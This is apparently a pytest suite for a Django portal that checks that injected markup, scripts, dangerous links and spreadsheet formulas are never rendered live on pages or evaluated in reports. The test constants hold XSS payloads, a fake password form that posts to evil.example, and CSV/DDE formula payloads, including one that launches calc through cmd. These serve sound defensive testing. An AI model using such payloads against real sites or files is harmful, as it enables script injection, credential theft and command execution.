"""Markup and formulas, planted in every text that anybody may give: a person, an admin, a directory or a cluster.

Nothing of it becomes an element, an attribute, a script or a formula, on any page, for anybody, in any file.
"""

import contextlib
import csv
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import timedelta

import pytest
from bs4 import BeautifulSoup
from django.apps import apps
from django.contrib.admin.models import LogEntry
from django.db import models
from django.test import Client
from django.utils import timezone

from environments import reports
from environments.lib.phases import Phase, Role, Status
from environments.models import Cluster, Environment, Event, Member, Review, Usage, User
from environments.models.reviews import Reason
from environments.models.templates import TemplateEvent
from tests import makers, once
from tests.pages.browsing import CHROMIUM, Site
from tests.reported import consume, roll_up
from tests.routes import routes

pytestmark = pytest.mark.django_db

MARK = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)><svg/onload=alert(3)>javascript:alert(4)"
SHORT = '"><img src=x onerror=alert(5)>'
ADDRESS = '"<script>alert(6)</script>"@example.com'
MARKDOWN = "\n\n".join(
    [
        MARK,
        "[a](javascript:alert(7))",
        "[b]( jAvAsCrIpT:alert(8))",
        "![c](javascript:alert(9))",
        "[d](data:text/html;base64,PHNjcmlwdD4=)",
        '[e](https://example.com "onmouseover=alert(10)")',
        "<a href='javascript:alert(11)'>f</a>",
        "<iframe srcdoc='<script>alert(12)</script>'></iframe>",
        "<style>*{display:none}</style><form action=//evil.example><input name=password></form>",
        "```html\n<script>alert(13)</script>\n```",
        "<javascript:alert(14)>",
        "&#60;script&#62;alert(15)&#60;/script&#62;",
    ]
)

#: What is no text that anybody gives: names in addresses and in code, hashes, and what has its own checks.
CODED = {"slug", "namespace", "password", "password_hash", "server", "public_server", "url", "token_url", "icon"}
CODED |= {
    "type",
    "oidc_issuer",
    "namespace_uid",
    "credential",
    "secret",
    "account_namespace",
    "dns_namespace",
    "object_id",
}


CAST = {f"{name}@example.com" for name in ("dana", "theo", "max", "ada", "sam")}


def fitting(field: models.Field) -> str:
    """The worst that fits into a column."""
    if isinstance(field, models.EmailField):
        return ADDRESS
    if field.name == "readme":
        return MARKDOWN
    most = field.max_length or 10_000
    return next((text for text in (MARK, SHORT, "<b>x") if len(text) <= most), "<")[:most]


def plant() -> int:
    """Put it into every text of every row of the product; how many columns that were."""
    count = 0
    for model in (*apps.get_app_config("environments").get_models(), LogEntry):
        for field in model._meta.concrete_fields:
            is_text = isinstance(field, models.CharField | models.TextField)
            if not is_text or field.choices or field.name in CODED or field.primary_key:
                continue
            for row in model._default_manager.order_by("pk"):
                worst = fitting(field)
                if isinstance(field, models.EmailField):
                    if getattr(row, field.name) in CAST:  # who people are follows from it
                        continue
                    worst = f'"{row.pk}{ADDRESS[1:]}'
                elif (field.unique or field.name == "subject") and field.max_length:  # a person's key has it
                    worst = worst[: field.max_length - 6] + str(row.pk)[-6:]
                models.QuerySet(model).filter(pk=row.pk).update(**{field.attname: worst})
            count += 1
    return count


def plant_in_json(template_version) -> None:
    """Into the texts within a template's content, the answers, the figures and the history."""
    spec = template_version.spec
    for part in (*spec["parameters"], *spec["sizes"]):
        part["label"] = MARK
    for parameter in spec["parameters"]:
        parameter["help"] = MARK
    models.QuerySet(type(template_version)).filter(pk=template_version.pk).update(spec=spec)
    usage = {SHORT: ["1", "2"], "pods": ["1", "2"], f"count/{SHORT}": ["1", "2"]}
    Environment.objects.update(spec=spec, parameters={"cost_centre": MARK, SHORT: MARK}, usage=usage)
    Environment.objects.update(applied_objects=[f"Deployment/{SHORT}"])
    Event.objects.update(data={"differences": [MARK], SHORT: MARK})
    TemplateEvent.objects.update(changes=[MARK], diff=f"--- a\n+++ b\n+{MARK}")
    User.objects.update(groups_claim=[MARK])


@dataclass
class HostileCluster:
    """Answers about pods and events as somebody wrote them who may write anything there."""

    environment: Environment
    server: str = "https://a.example"
    certificate_authority: str = ""

    def get(self, kind: str, name: str, namespace: str = "") -> dict:
        return {"kind": kind, "metadata": {"name": name, "uid": self.environment.namespace_uid}}

    def list_objects(self, kind: str, *_, **__):
        about = {"kind": SHORT, "name": SHORT}
        times = {"lastTimestamp": timezone.now().isoformat()}
        waiting = {"state": {"waiting": {"reason": SHORT, "message": MARK}}, "name": SHORT, "image": SHORT}
        status = {"phase": SHORT, "message": MARK, "reason": SHORT, "containerStatuses": [waiting]}
        yield {"metadata": {"name": SHORT}, "status": status} | {
            "reason": SHORT,
            "message": MARK,
            "type": "Warning",
            "involvedObject": about,
            **times,
        }


def failed(message: str) -> dict[str, dict]:
    """The condition of an environment whose namespace could not be made."""
    return {"Namespace": {"status": Status.FAILED, "message": message, "reason": "r", "attempts": 2}}


@pytest.fixture
def everything(
    dana,
    theo,
    max_manager,
    ada,
    sam,
    team,
    cluster,
    directory,
    template_version,
    make_environment,
    monkeypatch,
    settings,
    tmp_path,
):
    """A world in which every text is hostile, and everybody who looks at it."""
    settings.MAIL_FOLDER = str(tmp_path)
    (tmp_path / "one.log").write_text(f"Subject: {MARK}\nTo: {ADDRESS}\n\n{MARK}\n")
    made = [
        make_environment(
            name=f"one {phase}",
            phase=phase,
            conditions=failed("m"),
            usage={"pods": ["1", "2"]},
            members={"x@example.com": Role.VIEWER, "theo@example.com": Role.DEVELOPER},
        )
        for phase in (Phase.READY, Phase.FAILED, Phase.DELETING)
    ]
    TemplateEvent.objects.create(template=template_version.template, version=template_version, kind="v", message="m")
    LogEntry.objects.create(user=ada, action_flag=2, object_repr="o", change_message="m")
    Cluster.objects.update(check_error="e", description="d")
    assert plant() > 40
    plant_in_json(template_version)
    first = Environment.objects.get(pk=made[0].pk)
    monkeypatch.setattr("environments.kube.connect", lambda *_, **__: HostileCluster(first))
    return first, {"dana": dana, "theo": theo, "max": max_manager, "ada": ada, "sam": sam}


def every_address(first: Environment) -> list[str]:
    """Every page there is, of the portal and of the admin, for rows that are there."""
    found = set()
    for route in routes():
        if "(?P" in route or "jsi18n" in route or "autocomplete" in route:
            continue
        found.add(filled(route, first))
    for model in apps.get_app_config("environments").get_models():
        row = model._default_manager.first()
        if row is not None:
            name = f"environments/{model._meta.model_name}"
            found |= {f"/admin/{name}/", f"/admin/{name}/{row.pk}/change/", f"/admin/{name}/{row.pk}/history/"}
            found |= {f"/admin/{name}/{row.pk}/delete/", f"/admin/{name}/?q=x"}
    for slug in reports.REPORTS:
        found |= {f"/reports/{slug}/", f"/reports/{slug}.csv", f"/reports/{slug}.xlsx"}
    found |= {f"/?q={SHORT}", f"/environments/?q={SHORT}", f"/environments/?phase={SHORT}", f"/nothing/{SHORT}/"}
    return sorted(found)


DOWN = {"/readyz", "/accounts/login/", "/accounts/oidc/sso/login/"}  # there is no provider here, and no broker


def filled(route: str, first: Environment) -> str:
    known = {"namespace": first.namespace, "slug": first.version.template.slug, "pk": "1", "object_id": "1"}
    return re.sub(r"<(?:\w+:)?(\w+)>", lambda match: known.get(match[1], "1"), route)


def check_page(path: str, content: bytes) -> None:
    soup = BeautifulSoup(content, "html.parser")
    assert [tag for tag in soup.find_all("script") if not tag.get("src")] == [], path
    for tag in soup.find_all(True):
        assert tag.name not in ("iframe", "object", "embed", "style", "base"), (path, tag)
        assert tag.name != "img" or tag.get("src") != "x", (path, tag)
        for name, value in tag.attrs.items():
            words = " ".join(value) if isinstance(value, list) else str(value)
            assert not name.lower().startswith("on"), (path, tag)
            if name in ("href", "src", "action", "formaction", "xlink:href"):
                assert not re.match(r"\s*(javascript|data|vbscript):", words, re.IGNORECASE), (path, tag)
    for form in soup.find_all("form"):
        assert not form.get("action", "").startswith("//"), path


@pytest.mark.parametrize("who", ["dana", "theo", "max", "ada", "sam", ""])
def test_on_no_page_for_nobody_does_it_become_more_than_text(everything, who):
    first, people = everything
    client = Client(raise_request_exception=False)
    if who:
        client.force_login(people[who])
    seen = checked = 0
    for path in every_address(first):
        response = client.get(path)
        assert response.status_code < 500 or path in DOWN, path
        if "html" in response.headers.get("Content-Type", ""):
            check_page(path, response.content)
            checked += 1
            seen += MARK[:24].replace("<", "&lt;").replace(">", "&gt;").encode() in response.content
        response.close()
    assert checked > 5
    assert seen > {"ada": 30, "dana": 12, "theo": 8, "max": 8}.get(who, -1), "the texts are on the pages, as texts"


def test_nor_when_a_form_comes_back_with_it(everything):
    first, people = everything
    client = Client(raise_request_exception=False)
    client.force_login(people["dana"])
    fields = ("name", "purpose", "collaborators", "addresses", "address", "role", "keep", "typed_name", "hours", "q")
    more = ("where", "warn", "bad", "size", "team", "cluster", "key", "version", "p_cost_centre", "collaborator_role")
    sent = dict.fromkeys((*fields, *more), MARK)
    pages = ("delete", "members", "alerts", "kubeconfig/token", "members/hand-over", "members/remove")
    paths = [f"/environments/{first.namespace}/{page}/" for page in pages]
    shown = 0
    for path in (*paths, "/catalog/namespace/request/", "/catalog/namespace/preview/"):
        response = client.post(path, sent, follow=True)
        check_page(path, response.content)
        shown += b"&lt;script&gt;alert" in response.content
    assert shown >= 5


def test_a_readme_keeps_its_links_and_loses_what_could_harm(everything):
    first, people = everything
    client = Client()
    client.force_login(people["dana"])
    page = BeautifulSoup(client.get(f"/catalog/{first.version.template.slug}/").content, "html.parser")
    link = page.find("a", href="https://example.com")
    assert link is not None
    assert "noopener" in link["rel"]
    assert page.find("form", action=re.compile("evil")) is None
    assert page.find("input", attrs={"name": "password"}) is None


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian's package chromium)")
def test_a_browser_runs_none_of_it_and_has_nothing_to_complain_about(everything):
    first, people = everything
    client = Client()
    client.force_login(people["ada"])
    site = Site(client)
    below = f"/environments/{first.namespace}/"
    paths = ["/", f"/catalog/{first.version.template.slug}/", f"/catalog/{first.version.template.slug}/request/"]
    paths += ["/environments/", below, f"{below}history/", f"{below}objects/", f"{below}members/", f"{below}usage/"]
    paths += ["/outbox/", "/admin/", "/admin/environments/event/", "/admin/environments/environment/", "/reports/"]
    for path in (*paths, "/admin/jsi18n/"):
        site.keep(path)
    site.keep(f"{below}workloads/", part=True)
    dialogs: list[str] = []
    try:
        for path in paths:
            page = site.open(path)
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.wait_for_load_state("networkidle")
            assert page.evaluate("document.querySelectorAll('img[src=x], svg[onload], iframe').length") == 0, path
            page.context.close()
        assert dialogs == []
        assert site.complaints == []
    finally:
        site.close()


FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example")',
    "=cmd|' /C calc'!A0",
)


def formulas() -> None:
    """An environment for each, with a past that every report has something to say of."""
    team, cluster, version = makers.make_team(), makers.make_cluster(), makers.make_template()
    dana = makers.make_dana(team)
    make_environment = makers.environment_maker(dana, team, cluster, makers.make_directory(), version)
    now = timezone.now()
    hour, weeks_ago = now.replace(minute=0, second=0, microsecond=0), now - timedelta(days=40)
    for formula in FORMULAS:
        row = make_environment(usage={"pods": ["1", "2"], formula: ["1", "2"]}, purpose=formula)
        make_environment(name=formula[:60], phase=Phase.FAILED, conditions=failed(formula))
        Environment.objects.filter(pk=row.pk).update(name=formula[:60], created_at=weeks_ago, ready_at=weeks_ago)
        Member.objects.filter(environment=row).update(message=formula)
        Review.objects.create(environment=row, reason=Reason.REGULAR, asked_at=hour - timedelta(days=5), answer_by=now)
        figures = {"pods": [3600, 1, 7200], formula: [3600, 1, 7200]}
        Usage.objects.create(environment=row, span="hour", start=hour, seconds=3600, figures=figures)
        consume(row, weeks_ago.date(), 41, share=0.01, cpu=1000, memory=1024)
    roll_up()
    User.objects.filter(pk=dana.pk).update(first_name="=1+1", last_name="")
    type(team).objects.filter(pk=team.pk).update(name="=1+1")
    Cluster.objects.update(name="@SUM(A1)")
    type(version.template).objects.update(name="+1+1")


@pytest.fixture(scope="module")
def files(django_db_setup, django_db_blocker) -> dict[str, tuple[int, bytes]]:
    """Every file of figures, written once: status and content by address."""
    with once.passing(django_db_blocker):
        formulas()
        client = Client()
        client.force_login(makers.make_ada())
        addresses = [f"/reports/{slug}.{ending}" for slug in reports.REPORTS for ending in ("csv", "xlsx")]
        addresses += [f"/environments/{row.namespace}/usage/csv/" for row in Environment.objects.exclude(usage={})]
        answers = {address: client.get(address) for address in addresses}
        return {address: (answer.status_code, content(answer)) for address, answer in answers.items()}


@pytest.mark.parametrize("slug", list(reports.REPORTS))
def test_a_spreadsheet_calculates_none_of_it(files, slug):
    status, lines = files[f"/reports/{slug}.csv"]
    if status == 200:
        check_csv(lines)
    status, sheet = files[f"/reports/{slug}.xlsx"]
    assert status == 200
    with zipfile.ZipFile(io.BytesIO(sheet)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            assert not re.search(rb"<f[ >]", book.read(name)), name
            assert b"<hyperlink" not in book.read(name), name


def content(answer) -> bytes:
    with contextlib.closing(answer):
        return b"".join(answer.streaming_content) if answer.streaming else answer.content


def check_csv(data: bytes) -> None:
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(lines) > 1, "a heading and something below it"
    for line in lines:
        for cell in line:
            dangerous = cell.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert not dangerous or re.fullmatch(r"[+-]?[0-9.]+", cell), cell


def test_nor_an_environments_own_figures(files):
    own = [file for address, file in files.items() if address.startswith("/environments/")]
    assert len(own) == len(FORMULAS)
    for status, lines in own:
        assert status == 200
        check_csv(lines)
